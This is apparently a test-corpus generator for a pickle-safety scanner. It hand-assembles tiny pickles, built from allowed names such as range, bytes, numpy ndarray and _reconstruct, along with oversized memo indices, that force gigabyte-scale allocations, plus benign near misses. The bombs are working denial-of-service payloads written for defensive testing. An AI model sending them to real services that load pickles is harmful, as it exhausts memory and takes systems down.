"""Allocation bombs: pickles of a few dozen bytes that use only names the `ml` policy allows,
and make an allowed constructor allocate out of proportion to the file. Two shapes:

- a lazy sequence (``range``; ``enumerate`` / ``zip`` / ``reversed`` over one) handed to a
  callable that consumes it: ``list``, ``tuple``, ``set``, ``frozenset``, ``dict``, ``bytes``,
  ``collections.Counter`` / ``OrderedDict`` / ``defaultdict``, and the same
  through ``copyreg._reconstructor`` (``base.__init__(obj, state)``);
- a size handed to a constructor that fills it: ``bytes(n)`` / ``bytearray(n)`` (REDUCE,
  NEWOBJ, NEWOBJ_EX keywords, ``copyreg._reconstructor``), an object ndarray's shape
  (NEWOBJ, NEWOBJ_EX keywords, ``_reconstruct``, masked arrays' ``_mareconstruct``), a dtype with a large subarray.

And a third that needs no name at all: a memo index far beyond the stream (``memo_bombs()``).
The C unpickler grows its memo table to twice the index and clears every new slot as the PUT
runs, so one LONG_BINPUT of a 4-byte index commits tens of gigabytes, and a stream that breaks
right after it has already done so.

Each is built by hand from opcodes, at protocol 2 (GLOBAL) and 4 (STACK_GLOBAL, MEMOIZE,
FRAME), for a size given in items. ``near_misses()`` are the same shapes at sizes real data
has, which must stay safe.

    python tests/corpus/gen_alloc_bombs.py OUTDIR   # writes every bomb and near miss
"""
from __future__ import annotations

import struct
import sys
from pathlib import Path
from typing import Callable, Dict, List, Tuple

HUGE = 1 << 40


class Asm:
    """A tiny pickle assembler: enough opcodes for the shapes above."""

    def __init__(self, proto: int):
        self.proto = proto
        self.body = bytearray()

    def glob(self, module: str, name: str) -> "Asm":
        if self.proto >= 4:
            for s in (module, name):
                self.str(s)
            self.body += b"\x93"  # STACK_GLOBAL
            self.body += b"\x94"  # MEMOIZE
        else:
            self.body += b"c" + module.encode() + b"\n" + name.encode() + b"\n"
        return self

    def str(self, s: str) -> "Asm":
        b = s.encode()
        if self.proto >= 4 and len(b) < 256:
            self.body += b"\x8c" + bytes([len(b)]) + b  # SHORT_BINUNICODE
        else:
            self.body += b"X" + struct.pack("<I", len(b)) + b
        return self

    def int(self, n: int) -> "Asm":
        if 0 <= n < 256:
            self.body += b"K" + bytes([n])
        elif -(1 << 31) <= n < (1 << 31):
            self.body += b"J" + struct.pack("<i", n)
        else:
            raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
            self.body += b"\x8a" + bytes([len(raw)]) + raw  # LONG1
        return self

    def mark(self) -> "Asm":
        self.body += b"("
        return self

    def tuple(self) -> "Asm":  # from the mark
        self.body += b"t"
        return self

    def empty_tuple(self) -> "Asm":
        self.body += b")"
        return self

    def dict(self) -> "Asm":  # from the mark
        self.body += b"d"
        return self

    def reduce(self) -> "Asm":
        self.body += b"R"
        return self

    def newobj(self) -> "Asm":
        self.body += b"\x81"
        return self

    def newobj_ex(self) -> "Asm":
        self.body += b"\x92"
        return self

    def none(self) -> "Asm":
        self.body += b"N"
        return self

    def done(self) -> bytes:
        body = bytes(self.body) + b"."
        if self.proto >= 4:
            return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body
        return b"\x80\x02" + body


def call(a: Asm, module: str, name: str, *args: Callable[[Asm], None]) -> None:
    a.glob(module, name).mark()
    for arg in args:
        arg(a)
    a.tuple().reduce()


# Lazy producers, each yielding about `n` items.
def lazy_range(n: int) -> Callable[[Asm], None]:
    return lambda a: call(a, "builtins", "range", lambda a: a.int(n))


def lazy_range3(n: int) -> Callable[[Asm], None]:
    return lambda a: call(a, "builtins", "range", lambda a: a.int(-5), lambda a: a.int(n - 5),
                          lambda a: a.int(1))


def lazy_enumerate(n: int) -> Callable[[Asm], None]:
    return lambda a: call(a, "builtins", "enumerate", lazy_range(n))


def lazy_reversed(n: int) -> Callable[[Asm], None]:
    return lambda a: call(a, "builtins", "reversed", lazy_range(n))


def lazy_zip(n: int) -> Callable[[Asm], None]:
    return lambda a: call(a, "builtins", "zip", lazy_range(n), lazy_range3(n))


PRODUCERS = {
    "range": lazy_range,
    "range3": lazy_range3,
    "enumerate": lazy_enumerate,
    "reversed": lazy_reversed,
    "zip": lazy_zip,
}
# Consumers of an iterable. Mappings take pairs (zip, enumerate); bytes takes small ints, but
# sizes its buffer from the producer's length hint first (range, reversed). (bytearray grows
# as it goes, so it stops at the first int over 255: not a bomb with these producers.)
PAIRS = ("dict", "OrderedDict")
SIZED_BY_HINT = ("bytes",)
CONSUMERS = {
    "list": ("builtins", "list"),
    "tuple": ("builtins", "tuple"),
    "set": ("builtins", "set"),
    "frozenset": ("builtins", "frozenset"),
    "bytes": ("builtins", "bytes"),
    "Counter": ("collections", "Counter"),
    "dict": ("builtins", "dict"),
    "OrderedDict": ("collections", "OrderedDict"),
}


def fits(consumer: str, producer: str) -> bool:
    if consumer in PAIRS:
        return producer in ("zip", "enumerate")
    if consumer in SIZED_BY_HINT:
        return producer in ("range", "range3", "reversed")
    return True


def consume(consumer: str, producer: str, n: int, proto: int) -> bytes:
    a = Asm(proto)
    module, name = CONSUMERS[consumer]
    call(a, module, name, PRODUCERS[producer](n))
    return a.done()


def consume_defaultdict(n: int, proto: int) -> bytes:
    a = Asm(proto)
    call(a, "collections", "defaultdict", lambda a: a.none(), lazy_zip(n))
    return a.done()


def reconstructor_init(base: str, state: Callable[[Asm], None], proto: int) -> bytes:
    """copyreg._reconstructor(base, base, state): base.__new__ and base.__init__(obj, state)."""
    a = Asm(proto)
    call(a, "copyreg", "_reconstructor", lambda a: a.glob("builtins", base),
         lambda a: a.glob("builtins", base), state)
    return a.done()


def sized_reduce(name: str, n: int, proto: int) -> bytes:
    a = Asm(proto)
    call(a, "builtins", name, lambda a: a.int(n))
    return a.done()


def sized_newobj(name: str, n: int, proto: int) -> bytes:
    a = Asm(proto)
    a.glob("builtins", name).mark().int(n).tuple().newobj()
    return a.done()


def bytes_newobj_ex(n: int) -> bytes:
    a = Asm(4)
    a.glob("builtins", "bytes").empty_tuple().mark().str("source").int(n).dict().newobj_ex()
    return a.done()


def ndarray_newobj(n: int, proto: int) -> bytes:
    a = Asm(proto)
    a.glob("numpy", "ndarray").mark().mark().int(n).tuple().str("O").tuple().newobj()
    return a.done()


def ndarray_newobj_ex(n: int) -> bytes:
    a = Asm(4)
    a.glob("numpy", "ndarray").empty_tuple().mark()
    a.str("shape").mark().int(n).tuple().str("dtype").str("O").dict().newobj_ex()
    return a.done()


def reconstruct(shape: int, dtype: str, proto: int, module: str = "numpy.core.multiarray"
                ) -> bytes:
    a = Asm(proto)
    call(a, module, "_reconstruct", lambda a: a.glob("numpy", "ndarray"),
         lambda a: a.mark().int(shape).tuple(), lambda a: a.str(dtype))
    return a.done()


def bombs(n_items: int = HUGE, n_bytes: int = 1 << 36) -> Dict[str, bytes]:
    out: Dict[str, bytes] = {}
    for proto in (2, 4):
        for consumer in CONSUMERS:
            for producer in PRODUCERS:
                if not fits(consumer, producer):
                    continue
                out[f"p{proto}_{consumer}_of_{producer}"] = consume(consumer, producer,
                                                                     n_items, proto)
        out[f"p{proto}_defaultdict_of_zip"] = consume_defaultdict(n_items, proto)
        out[f"p{proto}_reconstructor_list_range"] = reconstructor_init(
            "list", lazy_range(n_items), proto)
        out[f"p{proto}_reconstructor_bytearray_size"] = reconstructor_init(
            "bytearray", lambda a: a.int(n_bytes), proto)
        for name in ("bytes", "bytearray"):
            out[f"p{proto}_{name}_size"] = sized_reduce(name, n_bytes, proto)
        out[f"p{proto}_bytes_newobj_size"] = sized_newobj("bytes", n_bytes, proto)
        out[f"p{proto}_ndarray_newobj_shape"] = ndarray_newobj(n_bytes // 8, proto)
        out[f"p{proto}_reconstruct_shape"] = reconstruct(n_bytes // 8, "O", proto)
        out[f"p{proto}_reconstruct_new_module_shape"] = reconstruct(
            n_bytes // 8, "O", proto, "numpy._core.multiarray")
        out[f"p{proto}_reconstruct_subarray_dtype"] = reconstruct(
            16, "(134217728,)O", proto)  # 16 items of 1 GiB each
        a = Asm(proto)
        call(a, "numpy.ma.core", "_mareconstruct", lambda a: a.glob("numpy.ma.core", "MaskedArray"),
             lambda a: a.glob("numpy", "ndarray"), lambda a: a.mark().int(n_bytes // 8).tuple(),
             lambda a: a.str("O"))
        out[f"p{proto}_mareconstruct_shape"] = a.done()
    out["p4_bytes_newobj_ex_size"] = bytes_newobj_ex(n_bytes)
    out["p4_ndarray_newobj_ex_shape"] = ndarray_newobj_ex(n_bytes // 8)
    return out


def memo_bombs(index: int = (1 << 31) - 1) -> Dict[str, bytes]:
    """PUT / LONG_BINPUT at a memo index no pickler writes, in complete and in broken streams,
    at each protocol and through each PUT form."""
    big = struct.pack("<I", index)
    bad = b"\xff"  # no opcode: the stream breaks here
    out: Dict[str, bytes] = {
        "p0_put_text": b"N" + b"p%d\n" % (index * 1000) + b".",
        "p0_put_text_then_break": b"(lp%d\n" % index + bad,
        "p1_long_binput": b"]r" + big + b".",
        "p2_long_binput_then_break": b"\x80\x02]" + b"]" * 100 + b"r" + big + bad,
        "p2_after_real_entries": b"\x80\x02](K\x01q\x00K\x02q\x01K\x03r" + big + b"e.",
        "p3_in_a_dict": b"\x80\x03}q\x00X\x01\x00\x00\x00ar" + big + b"K\x01s.",
    }
    body = b"\x80\x04\x95" + struct.pack("<Q", 7) + b"]\x94r" + big + b"."
    out["p4_framed"] = body
    return out


def memo_near_misses() -> Dict[str, bytes]:
    """Memo indices real streams have: sequential, past 255, or a sparse one a pickler with a
    shared memo could write that costs little: safe."""
    items = b"".join(b"K\x07r" + struct.pack("<I", i) for i in range(1, 300))
    return {
        "p2_sequential_long_binput": b"\x80\x02]r\x00\x00\x00\x00(" + items + b"e.",
        "p2_sparse_small": b"\x80\x02]r" + struct.pack("<I", 100_000) + b".",
        "p0_put_text_small": b"(lp12345\n.",
    }


def near_misses() -> Dict[str, bytes]:
    """The same shapes at the sizes real data has: safe."""
    out: Dict[str, bytes] = {}
    for proto in (2, 4):
        out[f"p{proto}_list_of_range"] = consume("list", "range", 1000, proto)
        out[f"p{proto}_dict_of_zip"] = consume("dict", "zip", 1000, proto)
        out[f"p{proto}_bytes_size"] = sized_reduce("bytes", 4096, proto)
        out[f"p{proto}_reconstruct_empty"] = reconstruct(0, "b", proto)
        out[f"p{proto}_reconstruct_small"] = reconstruct(16, "<f8", proto)
        a = Asm(proto)
        lazy_range(HUGE)(a)  # a range stored, never consumed
        out[f"p{proto}_range_stored"] = a.done()
    return out


def main(argv: List[str]) -> None:
    outdir = Path(argv[1])
    outdir.mkdir(parents=True, exist_ok=True)
    for group, samples in (("bomb", bombs()), ("ok", near_misses()), ("memo", memo_bombs()),
                           ("memook", memo_near_misses())):
        for name, data in samples.items():
            (outdir / f"{group}_{name}.pkl").write_bytes(data)


if __name__ == "__main__":
    main(sys.argv)
